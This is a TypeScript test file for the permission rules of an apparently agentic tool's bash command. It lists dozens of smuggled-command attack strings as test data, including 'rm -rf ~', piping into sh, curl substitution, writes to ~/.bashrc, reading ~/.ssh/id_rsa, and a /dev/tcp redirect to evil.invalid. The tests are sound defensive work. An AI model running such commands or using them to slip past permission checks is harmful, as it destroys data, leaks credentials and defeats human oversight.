/**
 * Rules for bash against attack strings: the real parser (tree-sitter-bash) and the real
 * matcher, as a call's permission is decided. Allow rules for `npm test` and `ls` must never
 * cover a line that runs anything more; deny rules must find their command anywhere, and ask
 * when the line hides a command.
 */
import assert from "node:assert/strict";
import { RuleBook } from "../../core/permission_rules.ts";
import { readCommandLine } from "../../plugins/tools/shell/command_line.ts";

const SOURCE = "settings.jsonc";

function rules(allow: string[], deny: string[] = []): RuleBook {
  const entries = (list: string[]) => list.map((rule) => ({ rule, source: SOURCE }));
  return new RuleBook({ allow: entries(allow), ask: [], deny: entries(deny) });
}

/** The rules' effect on a `bash` call of `command`, with the real parser. */
async function effectOn(book: RuleBook, command: string): Promise<string | undefined> {
  const bash = {
    name: "bash",
    ruleTarget: async () => ({ kind: "command" as const, ...await readCommandLine(command) }),
  };
  return (await book.decide(bash, { command }, () => {}))?.effect;
}

/**
 * Attack strings against `allow: bash(npm test:*), bash(ls:*)`: each smuggles something more
 * than `npm test` or `ls`, so none may be allowed.
 */
const ATTACKS = [
  "npm test; rm -rf ~",
  "npm test && rm -rf ~",
  "npm test || rm -rf ~",
  "npm test | sh",
  "npm test & rm -rf ~",
  "npm test &",
  "npm test\nrm -rf /",
  "npm test\r\nrm -rf /",
  "npm test $(curl x)",
  'npm test "$(curl x)"',
  "npm test `curl x`",
  "npm test <(curl x)",
  "npm test >(sh)",
  "npm test > ~/.bashrc",
  "npm test >> ~/.bashrc",
  "npm test 2> ~/.bashrc",
  "npm test &> ~/.bashrc",
  "npm test >& out",
  "npm test < ~/.ssh/id_rsa",
  "npm test <<< x",
  "cat <<EOF | sh\nrm -rf ~\nEOF",
  "ls <<EOF\n$(rm -rf ~)\nEOF",
  "PATH=. npm test",
  "LD_PRELOAD=./x.so npm test",
  "X=1; npm test",
  "export PATH=.; npm test",
  "npm() { rm -rf ~; }; npm test",
  "$X test",
  "${X} test",
  '"$(which npm)" test',
  "np*m test",
  "{rm,-rf,~}",
  "~/npm test",
  "npm test\\\nx",
  "npm test\u0000",
  "npm test\u001b[2K",
  "npm\u0085test",
  "npm\u00a0test",
  "eval npm test",
  "bash -c 'npm test'",
  "sh -c 'rm -rf ~'",
  "env npm test",
  "/usr/bin/env npm test",
  "sudo npm test",
  "xargs npm test",
  "exec npm test",
  "time npm test",
  "timeout 5 npm test",
  "command npm test",
  "builtin npm test",
  "source ./evil.sh",
  ". ./evil.sh",
  "alias ls='rm -rf ~'; ls",
  "hash -p /tmp/evil ls; ls",
  "ls $((a[$(rm -rf ~)]))",
  "ls ${X:-$(rm -rf ~)}",
  "[[ $X -eq 1 ]] && npm test",
  "((X)) && npm test",
  "if true; then rm -rf ~; fi",
  "for f in *; do ls $f; done",
  "while true; do npm test; done",
  "find . -exec rm {} \\;",
  "npm test $[1+1]",
  "npm test $'\\x3b' rm",
  "npm test &>/dev/tcp/evil.invalid/80",
  "npm test > >(sh)",
  "npm test <<<$(rm -rf ~)",
  'npm test "${X/a/$(rm -rf ~)}"',
  "npm test; exec 3>~/.bashrc",
  "npm te\\\nst",
  "npm test 'unterminated",
  "npm test )",
];

Deno.test("attack strings are never allowed by rules for npm test and ls", async () => {
  const book = rules(["bash(npm test:*)", "bash(ls:*)", "bash(find:*)"]);
  assert.equal(await effectOn(book, "npm test --watch"), "allow");
  assert.equal(await effectOn(book, "npm test && ls -la | npm test"), "allow");
  for (const attack of ATTACKS) {
    assert.notEqual(await effectOn(book, attack), "allow", JSON.stringify(attack));
  }
});

Deno.test("a deny rule finds its command anywhere; one hel cannot see is asked", async () => {
  const book = rules(["bash"], ["bash(rm:*)", "bash(git push:*)"]);
  const denied = [
    "npm test; rm -rf ~",
    "npm test && rm -rf ~",
    "echo $(rm -rf ~)",
    "echo `rm -rf ~`",
    "(cd x && rm -rf y)",
    "f() { rm -rf ~; }; f",
    "if true; then rm x; fi",
    "cat <(rm x)",
    "'rm' -rf ~",
    "r\\m -rf ~",
    "git push --force",
    "/bin/rm -rf ~",
    "npm test && /usr/bin/git push",
  ];
  for (const command of denied) {
    assert.equal(await effectOn(book, command), "deny", JSON.stringify(command));
  }
  const asked = [
    "eval 'rm -rf ~'",
    "bash -c 'rm -rf ~'",
    "sudo rm -rf ~",
    "xargs rm < list",
    "find . -delete -exec rm {} +",
    "$X -rf ~",
    "git $X",
    "cat <<EOF | sh\nrm -rf ~\nEOF",
    "ls ${X:$(echo 1)}",
    "r* -rf ~",
  ];
  for (const command of asked) {
    assert.equal(await effectOn(book, command), "ask", JSON.stringify(command));
  }
  for (const command of ["npm test", "git pull", "ls > out.txt", "echo rm"]) {
    assert.equal(await effectOn(book, command), "allow", command);
  }
});
